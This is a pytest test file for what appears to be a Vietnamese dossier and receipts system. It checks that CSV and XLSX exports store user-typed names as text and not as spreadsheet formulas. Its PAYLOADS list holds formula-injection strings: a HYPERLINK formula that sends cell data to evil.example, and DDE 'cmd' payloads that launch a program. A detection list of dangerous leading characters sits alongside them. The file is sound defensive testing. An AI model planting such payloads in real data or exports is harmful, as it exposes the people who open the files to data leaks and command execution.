"""Formula injection (OWASP "CSV injection"): every XLSX and CSV export writes what people typed
(names, addresses, agency and field names) as text, never as a formula.

Each export is fed the payloads below through the data it shows, then every cell is checked: in
XLSX a text cell is stored as text (openpyxl reads a formula back with ``data_type == "f"``); in
CSV no field starts with a character a spreadsheet takes for a formula."""

import csv
import io

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook

from accounts.models import Role
from dossiers import services
from dossiers.services import Intake
from receipts.services import Payer, receipt_issue
from tests.dashboards.conftest import catalog, march  # noqa: F401 (the fixtures)
from tests.factories import StaffFactory, UserFactory, applicant
from tests.receipts.conftest import at, receive

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def assert_xlsx_is_text(content: bytes, payloads: list[str]) -> None:
    book = load_workbook(io.BytesIO(content))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    text = "\n".join(seen)
    for payload in payloads:  # the text itself is kept, as the person wrote it
        assert payload.strip() in text


def assert_csv_is_neutral(content: bytes, payloads: list[str]) -> None:
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for value in row:
            if value and not value.lstrip("-").replace(".", "", 1).isdigit():
                assert not value.startswith(DANGEROUS_START), f"formula-like field {value!r}"
    values = {value for row in rows for value in row}
    for payload in payloads:  # kept whole, behind the quote that makes it text
        assert "'" + payload in values


@pytest.fixture
def payload_world(world):
    for agency in (world.center, world.justice, world.construction):
        agency.name = PAYLOADS[0]
        agency.save()
    return world


def test_dossier_register_xlsx_writes_names_as_text(client, payload_world):
    w = payload_world
    with freeze_time(at(7, 9)):
        for payload in PAYLOADS:
            services.dossier_receive(
                actor=w.clerk,
                procedure=w.single,
                intake=Intake(
                    applicant=applicant(name=payload, address=payload),
                    documents={d.id: (d.originals, d.copies) for d in w.single.documents.all()},
                ),
            )
    client.force_login(w.clerk)
    response = client.get(
        "/giay-to/so-theo-doi/",
        {"office": w.center.pk, "start": "2026-12-01", "end": "2026-12-31", "format": "xlsx"},
    )
    assert response.status_code == 200
    assert_xlsx_is_text(response.content, PAYLOADS)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_reconciliation_exports_write_names_as_text(client, payload_world, kind):
    w = payload_world
    clerks = [StaffFactory(role=Role.CLERK, agency=w.center, full_name=p) for p in PAYLOADS]
    with freeze_time(at(7, 9)):
        for clerk in clerks:
            receipt_issue(actor=clerk, dossier=receive(w, actor=clerk), payer=Payer(name=PAYLOADS[1]))
    client.force_login(w.manager)
    for table, payloads in (("co-quan", PAYLOADS[:1]), ("nguoi-thu", PAYLOADS)):
        response = client.get(
            "/giay-to/doi-soat/", {"month": "2026-12", "day": "2026-12-07", "export": f"{table}.{kind}"}
        )
        assert response.status_code == 200
        if kind == "xlsx":
            assert_xlsx_is_text(response.content, payloads)
        else:
            assert_csv_is_neutral(response.content, payloads)


@freeze_time("2026-04-15 10:00:00+07:00")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_periodic_report_writes_labels_as_text(client, march, kind):  # noqa: F811
    from procedures.models import Field

    fields = list(Field.objects.all())
    for field, payload in zip(fields, PAYLOADS, strict=False):
        field.name = payload
        field.save()
    client.force_login(UserFactory(role=Role.ADMIN))
    response = client.get(
        f"/thong-ke/bao-cao.{kind}", {"date_from": "2026-03-01", "date_to": "2026-03-31", "group_by": "field"}
    )
    assert response.status_code == 200
    payloads = PAYLOADS[: len(fields)]
    if kind == "xlsx":
        assert_xlsx_is_text(response.content, payloads)
    else:
        assert_csv_is_neutral(response.content, payloads)


def test_no_export_writes_csv_or_xlsx_by_itself():
    """A new export goes through receipts/spreadsheets.py, the one place that neutralises."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = [p for p in root.iterdir() if (p / "apps.py").exists()]
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in app.rglob("*.py")
        if path.name != "spreadsheets.py"
        and any(s in path.read_text() for s in ("csv.writer(", "csv.DictWriter(", "Workbook("))
    ]
    assert apps and not offenders, f"write exports with receipts.spreadsheets: {offenders}"
